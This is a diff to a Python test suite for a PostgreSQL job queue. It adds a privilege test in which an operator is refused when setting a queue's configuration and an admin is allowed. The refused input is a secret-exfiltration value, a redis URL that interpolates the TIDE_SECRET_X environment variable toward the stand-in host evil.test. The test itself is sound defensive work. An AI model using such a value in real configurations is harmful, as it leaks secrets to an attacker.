@@ -10,6 +10,7 @@ from psycopg.types.json import Jsonb
 
 from tests.services.postgres import Database
 from tests.sql.jobs.jobs import Session, Worker, enqueue, one, uuid_of
+from tests.sql.security.logins import logins
 from tests.sql.support import refused
 from tests.waiting import wait_until
 
@@ -286,6 +287,20 @@ def test_a_queue_is_changed_where_it_is_said(session: Session) -> None:
     assert queue() == (True, 5, 1, None, 1, 720, 99)
 
 
+def test_only_who_configures_may_say_which_hosts_and_secrets_a_queue_uses(database: Database, session: Session) -> None:
+    change = "select tide.job_queue_set('mail', %s)"
+    with logins(database) as make:
+        _, operator = make("grant_operator")
+        _, admin = make("grant_admin")
+        with psycopg.connect(operator, autocommit=True) as on_duty:
+            on_duty.execute(change, [Jsonb({"concurrency_limit": 2})])
+            with refused("42501", "may not change the configuration"):
+                on_duty.execute(change, [Jsonb({"config": {"celery_url": "redis://${env:TIDE_SECRET_X}@evil.test"}})])
+        with psycopg.connect(admin, autocommit=True) as configuring:
+            configuring.execute(change, [Jsonb({"config": {"a": 1}})])
+    assert one(session, "select config from tide.pipeline") == {"a": 1}
+
+
 def test_the_numbers_of_a_queue(session: Session, worker: Worker) -> None:
     def numbers() -> Any:
         return session.execute(
@@ -312,6 +327,8 @@ def test_the_numbers_of_a_queue(session: Session, worker: Worker) -> None:
     worker.finish(claimed[:2], "d")
     worker.finish(claimed[2:], "r", retry_seconds=60)
     session.execute("select tide.job_queue_pause('mail')")
+    session.execute("select tide.job_worker_start('here', 2, '{*}', 1), tide.job_worker_start('here', 3, '{other}', 1)")
+    assert numbers()[5] == 2
     session.execute("update tide.job_worker set seen_at = now() - interval '2 minutes'")
     assert numbers() == (4, 0, 4, 0, 2, 0, True)
     session.execute("select tide.job_enqueue_many('mail', '{send}', array_fill('{}'::jsonb, array[15000]))")
